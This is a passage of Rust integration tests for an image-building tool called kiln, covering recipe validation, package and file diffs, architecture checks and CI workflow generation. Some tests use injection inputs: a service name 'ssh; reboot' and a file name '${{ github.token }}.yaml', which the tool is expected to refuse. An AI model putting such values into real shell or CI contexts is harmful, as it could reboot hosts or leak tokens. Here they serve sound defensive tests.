    let recipe = example_copy(dir.path(), |t| {
        format!("{t}\ntest:\n  - {{file: etc/motd, contains: x}}\n  - {{run: \"true\", file: /x}}\n  - {{service: \"ssh; reboot\"}}\n  - {{file: /etc/motd}}\n")
    });
    let out = kiln_in(&["validate", recipe.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    for (line, msg) in [
        (0, "an absolute path"),
        (1, "a check is one of"),
        (2, "not a systemd unit name"),
        (3, "`file` needs `contains`"),
    ] {
        assert!(err.contains(msg), "{line}: {msg}: {err}");
    }
    assert!(err.contains("4 errors found"), "{err}");
    // test: false is accepted, and so are good checks.
    let ok = example_copy(dir.path(), |t| {
        format!("{t}\ntest:\n  - {{run: \"tree --version\", expect: \"tree v2\"}}\n  - {{file: /etc/motd, contains: kiln}}\n  - {{service: ssh, active: true}}\n")
    });
    let out = kiln_in(&["validate", ok.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

#[test]
fn kiln_diff_reports_exactly_the_packages_that_changed() {
    use kiln::inventory::{spdx, Package};
    let dir = tempfile::tempdir().unwrap();
    let pkg = |n: &str, v: &str| Package {
        name: n.into(),
        version: v.into(),
        arch: "amd64".into(),
        source: None,
    };
    let build = |name: &str, pkgs: &[Package]| {
        let d = dir.path().join(name);
        std::fs::create_dir_all(&d).unwrap();
        let os = std::collections::BTreeMap::from([("ID".to_string(), "debian".to_string())]);
        let doc = spdx(
            "debian-12",
            "1.0",
            &kiln::inventory::Inventory {
                os,
                packages: pkgs.to_vec(),
                ..Default::default()
            },
            "2026-12-01T00:00:00Z",
            "https://kiln.invalid/x",
            "kiln",
        );
        std::fs::write(
            d.join("debian-12-1.0.spdx.json"),
            serde_json::to_vec(&doc).unwrap(),
        )
        .unwrap();
        std::fs::write(
            d.join("manifest.json"),
            r#"{"name": "debian-12", "inventory": {"sbom": "debian-12-1.0.spdx.json"}}"#,
        )
        .unwrap();
        d
    };
    let a = build(
        "a",
        &[
            pkg("bash", "5.2.15-2"),
            pkg("tree", "2.1.0-1"),
            pkg("vim-tiny", "2:9.0.1378-2"),
        ],
    );
    let b = build(
        "b",
        &[
            pkg("bash", "5.2.15-2"),
            pkg("tree", "2.1.1-1"),
            pkg("curl", "7.88.1-10"),
        ],
    );
    // Without images only the SBOMs can be compared, and kiln says so.
    let no_image = kiln_in(
        &["diff", a.to_str().unwrap(), b.to_str().unwrap()],
        dir.path(),
    );
    assert_eq!(no_image.status.code(), Some(2));
    assert!(
        text(&no_image.stderr).contains("--packages-only"),
        "{}",
        text(&no_image.stderr)
    );
    let out = kiln_in(
        &[
            "diff",
            "--packages-only",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "packages: 1 added, 1 removed, 1 changed\n  + curl 7.88.1-10 (amd64)\n  - vim-tiny 2:9.0.1378-2 (amd64)\n  ~ tree 2.1.0-1 -> 2.1.1-1 (amd64)\n"
    );
    let same = kiln_in(
        &[
            "diff",
            "--packages-only",
            a.to_str().unwrap(),
            a.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert_eq!(same.status.code(), Some(0));
    let json = kiln_in(
        &[
            "diff",
            "--packages-only",
            "--format",
            "json",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
        ],
        dir.path(),
    );
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["packages"]["added"][0]["name"], "curl");
    // Not an output directory: exit 2, saying what is missing.
    let bad = kiln_in(
        &["diff", dir.path().to_str().unwrap(), b.to_str().unwrap()],
        dir.path(),
    );
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        text(&bad.stderr).contains("manifest.json"),
        "{}",
        text(&bad.stderr)
    );
}

/// `kiln diff` on two root filesystem trees: exactly the package, the files and the service
/// that differ; the package's own files attributed to it; ignored paths left out.
#[test]
fn kiln_diff_on_root_trees_reports_files_services_and_packages() {
    use std::os::unix::fs::{symlink, PermissionsExt};
    let dir = tempfile::tempdir().unwrap();
    let status = |extra: &str| {
        format!(
            "Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2\n\n{extra}"
        )
    };
    let root = |name: &str| {
        let r = dir.path().join(name);
        for d in [
            "etc/systemd/system/multi-user.target.wants",
            "var/lib/dpkg/info",
            "var/log",
            "usr/bin",
        ] {
            std::fs::create_dir_all(r.join(d)).unwrap();
        }
        std::fs::write(r.join("etc/motd"), "hello\n").unwrap();
        std::fs::write(r.join("etc/hostname"), "golden\n").unwrap();
        std::fs::write(r.join("etc/machine-id"), "").unwrap();
        std::fs::write(r.join("usr/bin/tool"), "#!/bin/sh\n").unwrap();
        symlink(
            "/lib/systemd/system/ssh.service",
            r.join("etc/systemd/system/multi-user.target.wants/ssh.service"),
        )
        .unwrap();
        std::fs::write(r.join("var/lib/dpkg/status"), status("")).unwrap();
        std::fs::write(
            r.join("var/log/build.log"),
            if name == "a" {
                "one line\n"
            } else {
                "two\nlines\n"
            },
        )
        .unwrap();
        r
    };
    let a = root("a");
    let b = root("b");
    // b: one package (with its files), one file, one content change, one mode change, one
    // service enabled and one disabled; a log that differs (ignored).
    std::fs::write(
        b.join("var/lib/dpkg/status"),
        status(
            "Package: jq\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.6-2.1\n\n",
        ),
    )
    .unwrap();
    std::fs::write(
        b.join("var/lib/dpkg/info/jq.list"),
        "/.\n/usr\n/usr/bin\n/usr/bin/jq\n",
    )
    .unwrap();
    std::fs::write(b.join("usr/bin/jq"), "jq").unwrap();
    std::fs::write(b.join("etc/kiln-release"), "1.0\n").unwrap();
    // A machine's identity baked into b: shown in its own section, never ignored.
    std::fs::write(b.join("etc/machine-id"), format!("{}\n", "5".repeat(32))).unwrap();
    std::fs::create_dir_all(b.join("etc/ssh")).unwrap();
    std::fs::create_dir_all(a.join("etc/ssh")).unwrap();
    std::fs::write(
        b.join("etc/ssh/ssh_host_ed25519_key.pub"),
        "ssh-ed25519 AAAA b\n",
    )
    .unwrap();
    // Same size, other content: hashed because the mtimes differ (b is the later build) …
    std::fs::write(b.join("etc/motd"), "HELLO\n").unwrap();
    let t0 = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    let set_mtime = |p: &Path, t| {
        std::fs::File::options()
            .write(true)
            .open(p)
            .unwrap()
            .set_modified(t)
            .unwrap()
    };
    set_mtime(&a.join("etc/motd"), t0);
    // … while a same-size edit that kept the mtime is only seen with --checksum.
    std::fs::write(b.join("etc/hostname"), "GOLDEN\n").unwrap();
    set_mtime(&a.join("etc/hostname"), t0);
    set_mtime(&b.join("etc/hostname"), t0);
    std::fs::set_permissions(
        b.join("usr/bin/tool"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::set_permissions(
        a.join("usr/bin/tool"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::remove_file(b.join("etc/systemd/system/multi-user.target.wants/ssh.service")).unwrap();
    symlink(
        "/lib/systemd/system/kiln.service",
        b.join("etc/systemd/system/multi-user.target.wants/kiln.service"),
    )
    .unwrap();
    let out = kiln_in(
        &["diff", a.to_str().unwrap(), b.to_str().unwrap()],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "packages: 1 added, 0 removed, 0 changed\n  + jq 1.6-2.1 (amd64)\n\
         files: 2 added, 1 removed, 2 changed (and 1 of the changed packages: --package-files lists them)\n\
         \x20 + /etc/kiln-release (file)\n\
         \x20 + /etc/systemd/system/multi-user.target.wants/kiln.service (link)\n\
         \x20 - /etc/systemd/system/multi-user.target.wants/ssh.service (link)\n\
         \x20 ~ /etc/motd: content\n\
         \x20 ~ /usr/bin/tool: mode 0644 -> 0755\n\
         identity (host keys, machine-id): 1 added, 0 removed, 1 changed\n\
         \x20 + /etc/ssh/ssh_host_ed25519_key.pub (file)\n\
         \x20 ~ /etc/machine-id: size 0 -> 33\n\
         services: 1 enabled, 1 disabled, 0 masked, 0 unmasked\n\
         \x20 + multi-user.target.wants/kiln.service\n\
         \x20 - multi-user.target.wants/ssh.service\n"
    );
    let listed = kiln_in(
        &[
            "diff",
            "--package-files",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(
        text(&listed.stdout).contains("  + /usr/bin/jq (file) [jq]\n"),
        "{}",
        text(&listed.stdout)
    );
    // The ignored log differs, and --all shows it.
    let all = kiln_in(
        &["diff", "--all", a.to_str().unwrap(), b.to_str().unwrap()],
        dir.path(),
    );
    assert!(
        text(&all.stdout).contains("/var/log/build.log"),
        "{}",
        text(&all.stdout)
    );
    assert!(!text(&out.stdout).contains("/etc/hostname"));
    let checksum = kiln_in(
        &[
            "diff",
            "--checksum",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(
        text(&checksum.stdout).contains("  ~ /etc/hostname: content\n"),
        "{}",
        text(&checksum.stdout)
    );
    let same = kiln_in(
        &["diff", a.to_str().unwrap(), a.to_str().unwrap()],
        dir.path(),
    );
    assert_eq!(same.status.code(), Some(0), "{}", text(&same.stdout));
}

/// An image for another architecture is refused before anything boots: `kiln test` exits 2 and
/// names what it found (the guest's shell's ELF header, read by the host reader). The same
/// disk with an x86-64 shell is not refused by that check.
#[test]
fn an_image_for_another_architecture_is_not_booted() {
    let dir = tempfile::tempdir().unwrap();
    let disk = |name: &str, machine: u8| {
        let root = dir.path().join(format!("{name}-root"));
        std::fs::create_dir_all(root.join("etc")).unwrap();
        std::fs::create_dir_all(root.join("usr/bin")).unwrap();
        std::fs::write(root.join("etc/os-release"), "ID=debian\nVERSION_ID=12\n").unwrap();
        std::fs::write(root.join("etc/fstab"), "/dev/sda / ext4 defaults 0 1\n").unwrap();
        // An ELF header: 64-bit, little-endian, e_machine at byte 18.
        let mut elf = vec![0u8; 64];
        elf[..4].copy_from_slice(b"\x7fELF");
        elf[4] = 2;
        elf[5] = 1;
        elf[18] = machine;
        std::fs::write(root.join("usr/bin/env"), elf).unwrap();
        let raw = dir.path().join(format!("{name}.raw"));
        let o = Command::new("mkfs.ext4")
            .args(["-q", "-F", "-d"])
            .arg(&root)
            .arg(&raw)
            .arg("16M")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        raw
    };
    let arm = disk("arm64", 0xb7);
    let test = |img: &Path, extra: &[&str]| {
        let o = kiln()
            .args(["test", "--format", "raw"])
            .args(extra)
            .arg(img)
            .output()
            .unwrap();
        (
            o.status.code(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    // Told to boot it as x86_64: refused before any VM.
    let (code, err) = test(&arm, &["--arch", "x86_64"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("holds an aarch64 system, not x86_64"), "{err}");
    // Booted as what it is, aarch64, whose only firmware is UEFI: this disk has no ESP.
    let (code, err) = test(&arm, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("aarch64 has no bios firmware"), "{err}");
    // An architecture kiln has no VM for (RISC-V).
    let (code, err) = test(&disk("riscv", 0xf3), &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("holds an riscv64 system; kiln test boots x86_64 and aarch64 VMs"),
        "{err}"
    );
    // A recipe whose image source is that disk: the source stage refuses it, exit 2.
    let recipe = dir.path().join("r.yaml");
    std::fs::write(
        &recipe,
        "name: armtest\nversion: \"1\"\nsource:\n  image: {path: arm64.raw, format: raw}\ntest: false\n",
    )
    .unwrap();
    let o = kiln()
        .arg("build")
        .arg(&recipe)
        .arg("-o")
        .arg(dir.path().join("out"))
        .env("KILN_CACHE_DIR", dir.path().join("cache"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("holds an aarch64 system; this recipe's `arch` is x86_64"),
        "{err}"
    );
    let inspect = kiln()
        .args(["inspect", "--format", "json"])
        .arg(&arm)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&inspect.stdout).unwrap();
    assert_eq!(v["architecture"], "aarch64");
    let x86 = disk("x86", 0x3e);
    let v: serde_json::Value = serde_json::from_slice(
        &kiln()
            .args(["inspect", "--format", "json"])
            .arg(&x86)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert_eq!(v["architecture"], "x86_64");
}

/// `kiln ci`: a recipe whose path could become an engine expression or a shell word is refused
/// with exit 2 (the recipe itself is valid); a file kiln ci did not write is not replaced.
#[test]
fn kiln_ci_refuses_paths_that_could_become_code_and_keeps_foreign_files() {
    let dir = tempfile::tempdir().unwrap();
    let example = std::fs::read_to_string(root().join("examples/debian-12.yaml")).unwrap();
    std::fs::write(dir.path().join("ok.yaml"), &example).unwrap();
    std::fs::write(dir.path().join("${{ github.token }}.yaml"), &example).unwrap();
    std::fs::create_dir_all(dir.path().join("files")).unwrap();
    for f in std::fs::read_dir(root().join("examples/files"))
        .unwrap()
        .flatten()
    {
        std::fs::copy(f.path(), dir.path().join("files").join(f.file_name())).unwrap();
    }
    let o = kiln()
        .current_dir(dir.path())
        .args([
            "ci",
            "ok.yaml",
            "${{ github.token }}.yaml",
            "--for",
            "github",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("error: recipe `${{ github.token }}.yaml`"),
        "{}",
        text(&o.stderr)
    );
    assert!(o.stdout.is_empty());
    let mine = dir.path().join("workflow.yml");
    std::fs::write(&mine, "# mine\n").unwrap();
    let o = kiln()
        .current_dir(dir.path())
        .args(["ci", "ok.yaml", "--for", "gitlab", "-o", "workflow.yml"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert_eq!(std::fs::read_to_string(&mine).unwrap(), "# mine\n");
    std::fs::remove_file(&mine).unwrap();
    let o = kiln()
        .current_dir(dir.path())
        .args(["ci", "ok.yaml", "--for", "gitlab", "-o", "workflow.yml"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(std::fs::read_to_string(&mine)
        .unwrap()
        .contains("KILN_RECIPE:\n          - ok.yaml"));
}
